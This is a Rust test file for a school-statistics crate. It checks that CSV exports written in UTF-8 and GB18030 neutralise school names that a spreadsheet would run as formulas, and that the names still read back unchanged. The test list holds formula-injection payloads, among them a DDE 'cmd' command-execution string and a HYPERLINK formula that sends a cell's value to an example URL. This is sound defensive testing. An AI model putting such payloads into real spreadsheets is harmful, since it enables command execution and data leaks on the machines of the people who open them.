//! Names that a spreadsheet would run: defused in every CSV, and read back as they were.

use junheng::io::read_table;
use junheng::report::{Gb18030, write_csv, write_table};
use junheng::{Assessor, Lang, Standard, read_schools};
use proptest::prelude::*;

const HEADER: [&str; 5] = ["区县代码", "学校标识码", "学校名称", "学校类别", "小学在校生数"];

/// Whether a spreadsheet would take a cell of a CSV for more than a text or a number.
fn runs(cell: &str) -> bool {
    let shown = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{200B}');
    let begins = shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    (begins || cell.starts_with(['\t', '\r', '\n'])) && cell.parse::<f64>().is_err()
}

/// In UTF-8 and in GB18030, each with the name by which it is read.
fn in_both_encodings(
    fill: impl Fn(&mut dyn std::io::Write) -> std::io::Result<()>,
) -> [(&'static str, Vec<u8>); 2] {
    let mut utf8 = Vec::new();
    fill(&mut utf8).expect("bytes take all");
    let mut gb18030 = Gb18030::new(Vec::new());
    fill(&mut gb18030).expect("there is no such sign that cannot be written");
    [("utf-8", utf8), ("gb18030", gb18030.finish().expect("whole"))]
}

fn schools(bytes: &[u8], encoding: &str) -> junheng::model::DataSet {
    let reader = read_schools().encoding(encoding).expect("it is known");
    reader.from_bytes("t.csv", bytes).expect("a table of schools")
}

fn first_name(data: &junheng::model::DataSet) -> String {
    data.counties().next().and_then(|c| c.schools().next()).map(|s| s.name().to_owned()).expect("a school")
}

/// The name of a school as it is typed: read, written, read, assessed, written, read.
fn goes_round(typed: &str) {
    let mut table = csv::Writer::from_writer(Vec::new());
    table.write_record(HEADER).expect("written");
    table.write_record(["210102", "1", typed, "小学", "500"]).expect("written");
    let data = schools(&table.into_inner().expect("whole"), "utf-8");
    let name = first_name(&data);
    let rows = [["210102", "1", &name, "小学", "500"]];
    for (encoding, bytes) in in_both_encodings(|out| write_table(&HEADER, rows, &mut &mut *out)) {
        assert_eq!(first_name(&schools(&bytes, encoding)), name, "{encoding}");
    }
    let assessment = Assessor::new(Standard::quality_2017()).assess(&data).expect("a result");
    for (encoding, bytes) in in_both_encodings(|out| write_csv(&assessment, Lang::Zh, &mut &mut *out)) {
        let label = encoding_rs::Encoding::for_label(encoding.as_bytes()).expect("it is known");
        let text = label.decode(&bytes).0;
        let mut cells = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        for record in cells.records() {
            let record = record.expect("rows as long as the header");
            assert!(!record.iter().any(runs), "{record:?}");
        }
        let table = read_table().encoding(encoding).expect("it is known");
        let table = table.expect(["学校名称"]).from_bytes("t.csv", &bytes).expect("a table");
        let names: Vec<&str> = table.column("学校名称").expect("a column").cells().collect();
        assert_eq!(names.first(), Some(&name.as_str()), "{encoding}");
    }
}

#[test]
fn hostile_names_go_round() {
    for typed in [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org?\"&A1,\"一小\")",
        "+86 24 1234",
        "-2+3",
        "-5",
        "+5",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "一小\n=1+1",
        "  =1+1",
        "\u{3000}＝1+1",
        "＝1+1",
        "＋1+1",
        "－一小",
        "＠一小",
        "'=1+1",
        "''=1+1",
        "'一小",
        "=\"0123\"",
        "'=\"0123\"",
        "-inf",
        "\u{200B}=1+1",
        "㐂𠮷🏫=1",
        "-㐂",
        ",;\"=1+1\"",
        "一小,=1+1",
        "m²=",
        "-",
    ] {
        goes_round(typed);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn any_name_goes_round(
        before in prop::sample::select(vec!["", " ", "\t", "\r\n", "\u{3000}", "'", "''", "=\"", "\"", "\u{200B}"]),
        sign in prop::sample::select(vec!["", "=", "+", "-", "@", "＝", "＋", "－", "＠", "'"]),
        // Signs for private use are the same in no two editions of GB18030.
        rest in "[^\u{E000}-\u{F8FF}\u{0}\u{FFFD}\u{FEFF}]{0,12}",
    ) {
        goes_round(&format!("{before}{sign}{rest}"));
    }
}
